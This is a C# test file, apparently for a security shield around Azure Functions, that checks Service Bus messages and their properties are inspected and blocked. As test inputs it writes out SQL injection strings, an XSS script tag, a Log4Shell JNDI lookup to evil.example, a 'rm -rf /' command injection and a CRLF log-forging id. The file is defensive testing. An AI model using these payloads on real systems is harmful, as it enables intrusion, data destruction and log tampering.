using ServerlessShield.AzureFunctions.Tests.FakeHost;
using ServerlessShield.AzureFunctions.Tests.FakeHost.Rpc;
using Status = ServerlessShield.AzureFunctions.Tests.FakeHost.Rpc.StatusResult.Types.Status;

namespace ServerlessShield.AzureFunctions.Tests.Pipeline;

/// <summary>serviceBusTrigger through hand-written metadata: single messages, batches, application properties.</summary>
public sealed class ServiceBusTriggerTests(SyntheticWorkerFixture worker) : IClassFixture<SyntheticWorkerFixture>
{
    [Fact]
    public async Task Message_Allowed_RunsTheFunction()
    {
        var message = Data.Unique("ok");

        var response = await InvokeAsync(message);

        Assert.Equal(Status.Success, response.Result.Status);
        Assert.Contains(message, SyntheticFunctions.Received);
    }

    [Fact]
    public async Task Message_Oversize_FailsWithTheLimitRuleAndTheFunctionDoesNotRun()
    {
        var message = "big-" + new string('b', 40);

        var response = await InvokeAsync(message);

        Assert.Equal(Status.Failure, response.Result.Status);
        Assert.Contains("SHIELD2001", response.Result.Exception.Message, StringComparison.Ordinal);
        Assert.DoesNotContain(message, SyntheticFunctions.Received);
    }

    [Fact]
    public async Task Message_ExceptionWithSecret_FailsWithoutTheSecret()
    {
        var response = await InvokeAsync(Data.Unique("fail"));

        Assert.Equal(Status.Failure, response.Result.Status);
        Assert.DoesNotContain("TopSecret", response.Result.Exception.Message, StringComparison.Ordinal);
        Assert.DoesNotContain("TopSecret", response.Result.Exception.StackTrace, StringComparison.Ordinal);
        Assert.Contains(response.InvocationId, response.Result.Exception.Message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Message_MaliciousApplicationProperty_FailsAndTheFunctionDoesNotRun()
    {
        var message = Data.Unique("ok");

        var response = await InvokeAsync(message, new() { ["ApplicationProperties"] = Data.Json("{\"tenant\":\"x' OR '1'='1' --\"}") });

        Assert.Equal(Status.Failure, response.Result.Status);
        Assert.Contains("SHIELD1001", response.Result.Exception.Message, StringComparison.Ordinal);
        Assert.DoesNotContain(message, SyntheticFunctions.Received);
        Assert.Contains(SecurityEventLog.Of(response.InvocationId), e => e.FieldPath == "message.properties.tenant");
    }

    [Fact]
    public async Task Batch_Allowed_RunsTheFunctionWithEveryMessage()
    {
        var first = Data.Unique("m1");

        var response = await InvokeBatchAsync([first, "m2"], ["id-1", "id-2"]);

        Assert.Equal(Status.Success, response.Result.Status);
        Assert.Contains(first + "|m2", SyntheticFunctions.ReceivedBatches);
    }

    [Fact]
    public async Task Batch_OneMaliciousMessage_FailsTheBatchAndReportsTheMessageId()
    {
        var first = Data.Unique("m1");

        var response = await InvokeBatchAsync([first, "<script>alert(1)</script>"], ["id-1", "id-2"]);

        Assert.Equal(Status.Failure, response.Result.Status);
        Assert.Contains("SHIELD1003", response.Result.Exception.Message, StringComparison.Ordinal);
        Assert.Contains(response.InvocationId, response.Result.Exception.Message, StringComparison.Ordinal);
        Assert.DoesNotContain(SyntheticFunctions.ReceivedBatches, b => b.StartsWith(first, StringComparison.Ordinal));
        var finding = Assert.Single(SecurityEventLog.Of(response.InvocationId), e => e.RuleId == "SHIELD1003");
        Assert.Equal("id-2", finding.ItemId);
        Assert.Equal("messages[1]", finding.FieldPath);
    }

    [Fact]
    public async Task Batch_MaliciousApplicationPropertyOfOneMessage_IsReportedWithThatMessageId()
    {
        var response = await InvokeBatchAsync([Data.Unique("m1"), "m2"], ["id-1", "id-2"],
            "[{\"source\":\"crm\"},{\"source\":\"${jndi:ldap://evil.example/a}\"}]");

        Assert.Equal(Status.Failure, response.Result.Status);
        Assert.Contains("SHIELD1009", response.Result.Exception.Message, StringComparison.Ordinal);
        var finding = Assert.Single(SecurityEventLog.Of(response.InvocationId), e => e.RuleId == "SHIELD1009");
        Assert.Equal("id-2", finding.ItemId);
    }

    // The sender sets the correlation id, session id, subject and the rest: consumers log, route and query by them.
    // (This fixture's detectors are markers, one per class: the worker tests pin what reaches the pipeline.)
    [Theory]
    [InlineData("CorrelationId", "${jndi:ldap://evil.example/a}", "SHIELD1009", "message.correlationId")]
    [InlineData("SessionId", "cart-7' OR '1'='1' --", "SHIELD1001", "message.sessionId")]
    [InlineData("Label", "<script>alert(1)</script>", "SHIELD1003", "message.subject")]
    [InlineData("ReplyTo", "replies; rm -rf /", "SHIELD1004", "message.replyTo")]
    [InlineData("Subject", "orders.created", null, null)]
    public async Task Message_SenderSetField_IsInspected(string key, string value, string? rule, string? fieldPath)
    {
        var message = Data.Unique("ok");

        var response = await InvokeAsync(message, new() { [key] = Data.String(value) });

        Assert.Equal(rule is null ? Status.Success : Status.Failure, response.Result.Status);
        Assert.Equal(rule is null, SyntheticFunctions.Received.Contains(message));
        var findings = SecurityEventLog.Of(response.InvocationId);
        Assert.Equal(rule is null ? [] : [(rule, fieldPath)], findings.Select(e => (e.RuleId, e.FieldPath)).Distinct());
    }

    [Fact]
    public async Task Batch_SenderSetFieldOfOneMessage_IsReportedWithThatMessageId()
    {
        var metadata = new Dictionary<string, TypedData>
        {
            ["MessageIdArray"] = Data.Json("[\"id-1\",\"id-2\"]"),
            ["CorrelationIdArray"] = Data.Json("[\"req-1\",\"${jndi:ldap://evil.example/a}\"]"),
        };

        var response = await worker.InvokeAsync(nameof(SyntheticFunctions.OnServiceBusBatch), "messages", Data.Strings([Data.Unique("m1"), "m2"]), metadata);

        Assert.Equal(Status.Failure, response.Result.Status);
        var finding = Assert.Single(SecurityEventLog.Of(response.InvocationId), e => e.RuleId == "SHIELD1009");
        Assert.Equal(("id-2", "messages[1].correlationId"), (finding.ItemId, finding.FieldPath));
    }

    // Regression: a Service Bus message id is the sender's (any string), and went into log lines and security events
    // as sent, line breaks included: the shield's own log could be forged through it. Ids now reach them as printable
    // ASCII, at most 128 characters.
    [Fact]
    public async Task Batch_SenderChosenMessageIdWithALineBreak_CannotForgeALogLine()
    {
        var forged = "id-2\r\n2026-11-29 10:00:00 info: Login succeeded for admin";

        var response = await InvokeBatchAsync([Data.Unique("m1"), "<script>alert(1)</script>"], ["id-1", forged]);

        Assert.Equal(Status.Failure, response.Result.Status);
        var finding = Assert.Single(SecurityEventLog.Of(response.InvocationId), e => e.RuleId == "SHIELD1003");
        Assert.Equal("id-2??2026-11-29 10:00:00 info: Login succeeded for admin", finding.ItemId);
        var lines = CapturedLogs.Of(response.InvocationId);
        Assert.NotEmpty(lines);
        Assert.All(lines, l => Assert.DoesNotContain("\n2026-11-29", l, StringComparison.Ordinal));
        Assert.Contains(CapturedLogs.Lines, l => l.Contains("id-2??2026", StringComparison.Ordinal));
    }

    // The validator describes the message; its application properties travel beside it and are inspected, not validated.
    [Theory]
    [InlineData("{\"orderId\":\"o-1\",\"quantity\":2}", "{\"tenant\":\"contoso\",\"priority\":\"high\"}", true, null)]
    [InlineData("{\"orderId\":\"\",\"quantity\":500}", "{\"tenant\":\"contoso\"}", false, "SHIELD6001")]
    [InlineData("{\"orderId\":\"o-1\",\"quantity\":2}", "{\"tenant\":\"x' OR '1'='1' --\"}", false, "SHIELD1001")]
    public async Task ValidatedMessage_WithApplicationProperties_IsValidatedAloneAndPropertiesAreInspected(string message, string properties, bool runs, string? rule)
    {
        // Received is shared by every test: the order id makes this message unique.
        message = message.Replace("o-1", "o-" + Guid.NewGuid().ToString("N"), StringComparison.Ordinal);
        var response = await InvokeAsync(message, new() { ["ApplicationProperties"] = Data.Json(properties) }, SyntheticWorkerFixture.ValidatedServiceBusFunction);

        Assert.Equal(runs ? Status.Success : Status.Failure, response.Result.Status);
        Assert.Equal(runs, SyntheticFunctions.Received.Contains(message));
        if (rule is not null)
        {
            Assert.Contains(rule, response.Result.Exception.Message, StringComparison.Ordinal);
        }
    }

    private Task<InvocationResponse> InvokeAsync(string message, Dictionary<string, TypedData>? metadata = null, string function = SyntheticWorkerFixture.ServiceBusFunction)
    {
        metadata ??= [];
        // Short: this function's payload limit (32 bytes) applies to every input, the message id included.
        metadata["MessageId"] = Data.String("m-" + Guid.NewGuid().ToString("N")[..12]);
        metadata["DeliveryCount"] = Data.Json("1");
        return worker.InvokeAsync(function, "message", Data.String(message), metadata);
    }

    private Task<InvocationResponse> InvokeBatchAsync(string[] messages, string[] messageIds, string? applicationProperties = null)
    {
        var metadata = new Dictionary<string, TypedData>
        {
            ["MessageIdArray"] = Data.Json(System.Text.Json.JsonSerializer.Serialize(messageIds)),
        };
        if (applicationProperties is not null)
        {
            metadata["ApplicationPropertiesArray"] = Data.Json(applicationProperties);
        }

        return worker.InvokeAsync(nameof(SyntheticFunctions.OnServiceBusBatch), "messages", Data.Strings(messages), metadata);
    }
}
